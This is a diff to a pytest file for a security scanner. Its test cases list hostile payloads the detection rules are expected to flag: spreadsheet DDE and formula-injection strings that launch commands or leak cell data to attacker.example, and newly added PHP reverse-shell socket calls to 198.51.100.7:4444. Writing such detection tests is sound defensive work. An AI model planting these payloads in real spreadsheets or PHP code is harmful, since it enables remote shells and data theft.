@@ -39,6 +39,10 @@ CTX = ScanContext()
         ("=cmd|' /C calc'!A0", "HG-CODE-008"),
         ('=DDE("cmd";"/C calc";"!A0")', "HG-CODE-008"),
         ("phpversion();", "HG-CODE-006"),
+        # a PHP reverse shell connects back first
+        ('$sock=fsockopen("198.51.100.7",4444);', "HG-CODE-006"),
+        ("pfsockopen('attacker.example', 443)", "HG-CODE-006"),
+        ('stream_socket_client("tcp://198.51.100.7:4444")', "HG-CODE-006"),
         ("@SUM(1+1)*cmd|' /C notepad'!'A1'", "HG-CODE-008"),
         ('=HYPERLINK("https://attacker.example/?leak="&A2, "Details")', "HG-CODE-008"),
         ('"=IMPORTXML(CONCAT(""https://attacker.example/?v="", B3), ""//a"")"', "HG-CODE-008"),
@@ -62,6 +66,13 @@ def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
 def test_log4j_lookups_resolve_like_log4j(text: str, resolved: str) -> None:
     found = find_lookup(text)
     assert found is not None and found[0] == resolved
+
+
+@pytest.mark.parametrize(
+    "value", ["fsockopen() returns a resource", "see fsockopen (PHP manual)", "stream_socket_client()"]
+)
+def test_socket_functions_named_without_an_address_are_no_php_call(value: str) -> None:
+    assert code.scan(value, CTX) is None
 
 
 @pytest.mark.parametrize("value", ["$c0X(1bD#ns4Ir", "!$$sA(Aj+KU1W$", "L$tp$PFvS(3akT"])
